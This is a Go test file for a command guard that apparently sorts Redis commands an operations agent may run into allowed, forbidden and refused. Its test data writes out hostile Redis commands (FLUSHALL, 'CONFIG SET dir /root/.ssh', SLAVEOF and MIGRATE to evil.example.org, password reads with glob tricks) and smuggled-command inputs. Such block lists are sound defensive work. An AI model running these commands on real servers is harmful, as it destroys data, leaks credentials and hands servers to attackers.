package script_test

import (
	"strings"
	"testing"

	"github.com/claudeops/claudeops/guard/script"
)

// redisRows are commands without quotes.
var redisRows = []sqlRow{
	{"observe", "PING"},
	{"observe", "ping"},
	{"observe", "INFO"},
	{"observe", "INFO replication"},
	{"observe", "info memory"},
	{"observe", "INFO commandstats"},
	{"observe", "DBSIZE"},
	{"observe", "CLIENT LIST"},
	{"observe", "CLIENT LIST TYPE normal"},
	{"observe", "client info"},
	{"observe", "CLIENT GETNAME"},
	{"observe", "CONFIG GET maxmemory"},
	{"observe", "CONFIG GET maxmemory*"},
	{"observe", "config get maxclients timeout appendonly save"},
	{"observe", "CONFIG GET client-output-buffer-limit"},
	{"observe", "SLOWLOG GET 10"},
	{"observe", "SLOWLOG LEN"},
	{"observe", "LATENCY DOCTOR"},
	{"observe", "LATENCY LATEST"},
	{"observe", "LATENCY HISTORY command"},
	{"observe", "MEMORY STATS"},
	{"observe", "MEMORY DOCTOR"},
	{"observe", "MEMORY USAGE session:1"},
	{"observe", "TTL session:1"},
	{"observe", "PTTL session:1"},
	{"observe", "TYPE session:1"},
	{"observe", "EXISTS a b"},
	{"observe", "STRLEN a"},
	{"observe", "LLEN queue"},
	{"observe", "HLEN h"},
	{"observe", "SCARD s"},
	{"observe", "ZCARD z"},
	{"observe", "XLEN stream"},
	{"observe", "XINFO GROUPS stream"},
	{"observe", "XPENDING stream group"},
	{"observe", "XREAD COUNT 5 STREAMS stream 0"},
	{"observe", "SCAN 0 MATCH session:* COUNT 100"},
	{"observe", "SSCAN s 0"},
	{"observe", "HSCAN h 0"},
	{"observe", "ZSCAN z 0"},
	{"observe", "OBJECT ENCODING a"},
	{"observe", "OBJECT IDLETIME a"},
	{"observe", "LASTSAVE"},
	{"observe", "ROLE"},
	{"observe", "TIME"},
	{"observe", "COMMAND COUNT"},
	{"observe", "COMMAND"},
	{"observe", "CLUSTER INFO"},
	{"observe", "CLUSTER NODES"},
	{"observe", "CLUSTER SLOTS"},
	{"observe", "CLUSTER SHARDS"},
	{"observe", "PUBSUB CHANNELS"},
	{"observe", "PUBSUB NUMSUB news"},
	{"observe", "GET a"},
	{"observe", "MGET a b"},
	{"observe", "HGETALL h"},
	{"observe", "LRANGE queue 0 9"},
	{"observe", "ZRANGE z 0 -1 WITHSCORES"},
	{"observe", "SMEMBERS s"},
	{"observe", "SENTINEL masters"},
	{"observe", "SENTINEL replicas shop"},
	{"observe", "SENTINEL get-master-addr-by-name shop"},
	{"observe", "SENTINEL ckquorum shop"},
	{"observe", "ACL WHOAMI"},
	{"observe", "SELECT 3"},
	{"observe", "RANDOMKEY"},
	{"observe", "SORT_RO queue"},

	{"forbidden", "FLUSHALL"},
	{"forbidden", "flushdb async"},
	{"forbidden", "DEL a"},
	{"forbidden", "UNLINK a"},
	{"forbidden", "SET a b"},
	{"forbidden", "GETDEL a"},
	{"forbidden", "GETEX a PERSIST"},
	{"forbidden", "EXPIRE a 1"},
	{"forbidden", "RENAME a b"},
	{"forbidden", "SORT queue STORE x"},
	{"forbidden", "GEORADIUS g 0 0 1 km STORE x"},
	{"forbidden", "LPUSH queue x"},
	{"forbidden", "RPOPLPUSH a b"},
	{"forbidden", "XADD stream * a b"},
	{"forbidden", "XREADGROUP GROUP g c STREAMS stream >"},
	{"forbidden", "XTRIM stream MAXLEN 0"},
	{"forbidden", "SHUTDOWN NOSAVE"},
	{"forbidden", "CONFIG SET maxmemory 1gb"},
	{"forbidden", "CONFIG SET dir /root/.ssh"},
	{"forbidden", "CONFIG REWRITE"},
	{"forbidden", "CONFIG RESETSTAT"},
	{"forbidden", "CONFIG GET *"},
	{"forbidden", "CONFIG GET requirepass"},
	{"forbidden", "CONFIG GET RequirePass"},
	{"forbidden", "CONFIG GET maxmemory master*"},
	{"forbidden", "CONFIG GET ?equirepass"},
	{"forbidden", "CONFIG GET [m]asterauth"},
	{"forbidden", "CONFIG GET tls-*"},
	{"forbidden", "EVAL return 0"},
	{"forbidden", "EVALSHA x 0"},
	{"forbidden", "SCRIPT FLUSH"},
	{"forbidden", "FUNCTION LOAD x"},
	{"forbidden", "FCALL x 0"},
	{"forbidden", "MODULE LOAD /tmp/x.so"},
	{"forbidden", "DEBUG SEGFAULT"},
	{"forbidden", "SLAVEOF evil.example.org 6379"},
	{"forbidden", "REPLICAOF NO ONE"},
	{"forbidden", "FAILOVER"},
	{"forbidden", "CLUSTER RESET HARD"},
	{"forbidden", "CLUSTER FAILOVER TAKEOVER"},
	{"forbidden", "SENTINEL FAILOVER shop"},
	{"forbidden", "SENTINEL REMOVE shop"},
	{"forbidden", "SENTINEL CONFIG GET *"},
	{"forbidden", "ACL LIST"},
	{"forbidden", "ACL SETUSER x"},
	{"forbidden", "MIGRATE evil.example.org 6379 a 0 1000"},
	{"forbidden", "RESTORE a 0 x"},
	{"forbidden", "AUTH secret"},
	{"forbidden", "PSYNC ? -1"},
	{"refused", "KEYS *"},
	{"refused", "MONITOR"},
	{"refused", "SUBSCRIBE news"},
	{"refused", "XREAD BLOCK 0 STREAMS stream $"},
	{"refused", "CLIENT KILL ID 5"},
	{"refused", "CLIENT PAUSE 1000"},
	{"refused", "CLIENT"},
	{"refused", "SLOWLOG RESET"},
	{"refused", "LATENCY RESET"},
	{"refused", "MEMORY PURGE"},
	{"refused", "BGSAVE"},
	{"refused", "SAVE"},
	{"refused", "MULTI"},
	{"refused", "WAIT 1 0"},
	{"refused", "CONNECT evil.example.org 6379"},
	{"refused", "5 PING"},
	{"refused", "FROBNICATE"},
}

func TestRedis(t *testing.T) {
	for _, row := range redisRows {
		if is := sqlIs("", script.Redis(strings.Fields(row.text))); is != row.is {
			t.Errorf("%q is %s, want %s", row.text, is, row.is)
		}
		if is := sqlIs("", script.RedisScript("PING\n"+row.text+"\n")); is != row.is {
			t.Errorf("%q in a script is %s, want %s", row.text, is, row.is)
		}
	}
	if is := sqlIs("", script.Redis(nil)); is != "refused" {
		t.Errorf("no command is %s", is)
	}
}

func TestRedisScript(t *testing.T) {
	for _, row := range []sqlRow{
		{"observe", ""},
		{"observe", "PING\n\n  INFO replication\n"},
		{"observe", "GET \"a key\"\nGET 'FLUSHALL'"},
		{"observe", "SCAN 0 MATCH 'a*'"},
		{"forbidden", "PING\nFLUSHALL"},
		{"forbidden", "PING\n\"FLUSHALL\""},
		{"refused", `GET "a\nb"`},
		{"refused", `GET "a`},
		{"refused", `GET "a"b`},
		{"refused", `GET a"b"`},
		{"refused", "GET 'a\n'"},
		{"refused", "PING\rFLUSHALL"},
		{"refused", "PING\x00"},
		{"refused", "# FLUSHALL"},
	} {
		if is := sqlIs("", script.RedisScript(row.text)); is != row.is {
			t.Errorf("%q is %s, want %s", row.text, is, row.is)
		}
	}
}

// FuzzRedis: a script that is granted hides nothing that follows it on a line of its own.
func FuzzRedis(f *testing.F) {
	for _, row := range redisRows {
		f.Add(row.text)
	}
	f.Add("GET \"a key\"\nGET 'b'\n")
	f.Fuzz(func(t *testing.T, text string) {
		if err := script.RedisScript(text); err != nil {
			if sqlIs("", err) != "refused" && sqlIs("", err) != "forbidden" {
				t.Fatal(err)
			}
			return
		}
		if is := sqlIs("", script.RedisScript(text+"\nFLUSHALL")); is != "forbidden" && len(text) < 60<<10 {
			t.Fatalf("%q hides FLUSHALL, which is %s", text, is)
		}
	})
}
